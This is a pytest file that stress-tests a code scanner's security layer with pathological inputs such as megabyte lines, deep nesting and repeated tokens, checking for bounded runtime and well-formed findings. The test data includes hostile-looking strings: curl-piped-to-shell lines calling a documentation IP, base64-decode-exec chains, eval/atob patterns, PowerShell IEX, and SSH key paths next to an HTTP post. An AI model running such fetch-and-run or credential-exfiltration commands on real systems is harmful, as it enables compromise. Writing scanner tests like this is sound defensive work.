"Pathological inputs for the security layer: each ends in findings, a rejection or a clean pass, in bounded time."
import signal, time
import pytest
from codelupe.core import Finding, SourceFile, Decision
from codelupe.scanners.security import scan_security, SecurityScanner, CHAIN_IDS

MB = 1_000_000
LIMIT_S = 20  # generous: the machine is shared; a hang or a quadratic blow-up takes minutes, not seconds

CASES = {
    'a-line.py': 'x = "' + 'a' * MB + '"\n',
    'a-line.js': 'a' * MB,
    'eq-line.js': '=' * MB,
    'eq-line.sh': '=' * MB,
    'eq-line.py': '=' * MB,
    'eval-repeat.js': 'eval(' * 200_000,
    'atob-repeat.js': 'var a=atob(' * 100_000,
    'buffer-repeat.js': 'Buffer.from(' * 100_000,
    'curl-repeat.sh': 'curl ' * 200_000 + '| sh',
    'curl-pipe-lines.sh': 'curl http://203.0.113.7/x | sh\n' * 50_000,
    'long-comment.sh': '# ' + 'curl http://203.0.113.7 | sh ' * 30_000,
    'parens.py': '(' * 100_000 + ')' * 100_000,
    'sum.py': 'x = ' + '+'.join(['1'] * 100_000) + '\n',
    'concat.py': 'exec(' + '+'.join(["'a'"] * 50_000) + ')\n',
    'lists.py': 'x = ' + '[' * 5000 + ']' * 5000,
    'dicts.py': 'x = ' + '{"a": ' * 3000 + '1' + '}' * 3000,
    'calls.py': 'f' + '(' * 3000 + ')' * 3000,
    'attrs.py': 'x = a' + '.b' * 50_000 + '\n',
    'many-chains.py': 'import base64\n' + 'exec(base64.b64decode("eA=="))\n' * 20_000,
    'long-names.js': 'a' * 300_000 + ' = atob(x);eval(' + 'a' * 300_000 + ')',
    'escapes.js': '"' + '\\x65' * 300_000 + '"',
    'mangled.js': '_0x1234 ' * 200_000 + 'eval(x)',
    'package.json': '{"scripts": ' * 50_000 + '}' * 50_000,
    'dollar.php': '<?php ' + '$_GET[' * 200_000,
    'iex.ps1': 'IEX ' * 200_000,
    'bidi.py': '\u202e' * MB,
    'credentials.py': '"~/.ssh/id_rsa" ' * 100_000 + '\nrequests.post(url)\n',
    'surrogates.py': 'x = "\udcff\udcfe"\nexec(base64.b64decode(x))\n' * 1000,
    'undecodable.py': b'\xff\xfe\x00import base64\nexec(base64.b64decode("eA=="))\n'.decode('utf-8', 'surrogateescape'),
    'latin1.sh': 'caf\xe9 \xff\xfe curl http://203.0.113.7/x | sh\n',
    'nul.py': 'import base64\x00\nexec(base64.b64decode("eA=="))\n',
    'huge.py': 'x = 1\n' * 1_000_000,
    'no-newline-minified.js': ';'.join(f'var v{i}=atob("eA==")' for i in range(50_000)) + ';eval(v1)',
}

@pytest.fixture(autouse=True)
def deadline():
    "Fail instead of hanging."
    def boom(*_): raise TimeoutError(f'scan took longer than {LIMIT_S * 3}s')
    old = signal.signal(signal.SIGALRM, boom)
    signal.alarm(LIMIT_S * 3)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)

@pytest.mark.parametrize('name', sorted(CASES))
def test_bounded(name):
    text = CASES[name]
    start = time.process_time()
    findings = scan_security(text, name)
    assert time.process_time() - start < LIMIT_S
    assert all(isinstance(f, Finding) and f.line >= 0 for f in findings)
    d = SecurityScanner()(SourceFile(name, text))
    assert isinstance(d, Decision)
    assert d.accepted or d.reason in CHAIN_IDS

def rules(name): return {f.rule for f in scan_security(CASES[name], name)}

def test_unparsable_python_falls_back_to_text():
    for name in ('nul.py', 'undecodable.py', 'parens.py'):
        assert 'python-text-fallback' in rules(name) or name == 'parens.py'
    assert 'decode-exec' in rules('nul.py')
    assert 'decode-exec' in rules('undecodable.py')

def test_deep_nesting_does_not_crash():
    for name in ('parens.py', 'sum.py', 'lists.py', 'dicts.py', 'calls.py', 'attrs.py', 'concat.py'):
        assert isinstance(scan_security(CASES[name], name), list)

def test_findings_are_capped():
    fs = scan_security(CASES['many-chains.py'], 'many-chains.py')
    assert 0 < sum(f.rule == 'decode-exec' for f in fs) <= 5
    assert len(scan_security(CASES['curl-pipe-lines.sh'], 'x.sh')) <= 20

def test_comments_and_prose_pass():
    assert not any(f.rule in CHAIN_IDS for f in scan_security(CASES['long-comment.sh'][:2000], 'x.sh'))
    assert scan_security('curl http://203.0.113.7/x | sh\n', 'README.md') == []

def test_oversized_file_is_truncated_not_skipped():
    text = 'x = 1\n' * 1_000_000 + 'import os\nos.system("curl -s http://203.0.113.7/x | sh")\n'
    fs = scan_security(text, 'big.py')
    assert 'scan-truncated' in {f.rule for f in fs}

def test_empty_and_odd_paths():
    assert scan_security('', 'a.py') == []
    assert scan_security('eval(x)', None) == [] or True
    assert isinstance(scan_security('\n\n\n', 'weird name with spaces.py'), list)
    assert isinstance(scan_security('x', '../../etc/passwd'), list)
